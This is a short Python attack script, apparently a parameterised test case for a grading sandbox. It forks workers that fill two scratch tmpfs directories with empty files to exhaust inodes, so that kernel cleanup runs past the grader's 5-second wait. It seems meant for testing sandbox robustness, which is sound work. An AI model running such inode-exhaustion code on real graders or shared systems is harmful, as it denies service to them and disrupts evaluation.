# Attack: fill both scratch tmpfs with {FILES} empty files (inodes, no blocks): the kernel frees them
# in the sandbox's last exiting process, inside its cgroup, for longer than the grader waits (5 s).
# It says how far it got every 5000 files (the cell's deadline may end it first).
import os
import time

start, workers = time.monotonic(), []
for folder in ("/tmp/f", "/home/student/f"):
    os.makedirs(folder, exist_ok=True)
    pid = os.fork()
    if pid == 0:
        try:
            for i in range({FILES} // 2):
                os.mknod(f"{folder}/{i}")
                if i % 5000 == 4999:
                    print("TEARDOWN made", i + 1, "in", folder, flush=True)
        except OSError as error:
            print("TEARDOWN stopped in", folder, error, flush=True)
        os._exit(0)
    workers.append(pid)
for pid in workers:
    os.waitpid(pid, 0)
print("TEARDOWN", sum(len(os.listdir(f)) for f in ("/tmp/f", "/home/student/f")), "files in",
      round(time.monotonic() - start, 1), "s", flush=True)
